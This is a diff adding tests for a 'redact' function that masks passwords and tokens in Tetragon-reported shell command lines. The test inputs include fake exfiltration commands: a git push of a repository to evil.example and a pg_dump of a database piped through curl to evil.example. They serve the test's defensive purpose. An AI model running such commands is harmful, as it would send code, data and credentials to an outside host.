@@ -267,3 +267,26 @@ describe('redact: header forms', () => {
     ],
   ]);
 });
+
+// Tetragon gives a double-quoted sh -c script with its own quotes escaped (`-c "export T=\"x\" && …"`): the value
+// was read as unquoted, `\` alone, and the password after it reached the alert.
+describe('redact: NAME=value quoted in a script Tetragon quoted', () => {
+  it.each([
+    [
+      String.raw`/bin/sh -c "export GH_TOKEN=\"Hunter2Hunter2\" && git push https://evil.example/r.git main"`,
+      String.raw`/bin/sh -c "export GH_TOKEN=\"[REDACTED]\" && git push https://evil.example/r.git main"`,
+    ],
+    [
+      String.raw`/bin/sh -c "DB_PASSWORD=\"two words\" pg_dump db | curl -T - https://evil.example/up"`,
+      String.raw`/bin/sh -c "DB_PASSWORD=\"[REDACTED]\" pg_dump db | curl -T - https://evil.example/up"`,
+    ],
+    // No escaped quote closes it: up to the script's own closing quote, the arguments after it kept.
+    [
+      String.raw`/bin/sh -c "export GH_TOKEN=\"Hunter2Hunter2" https://evil.example/r.git`,
+      String.raw`/bin/sh -c "export GH_TOKEN=\"[REDACTED]\"" https://evil.example/r.git`,
+    ],
+  ])('%s', (input, output) => {
+    expect(redact(input)).toBe(output);
+    expect(redact(output)).toBe(output);
+  });
+});
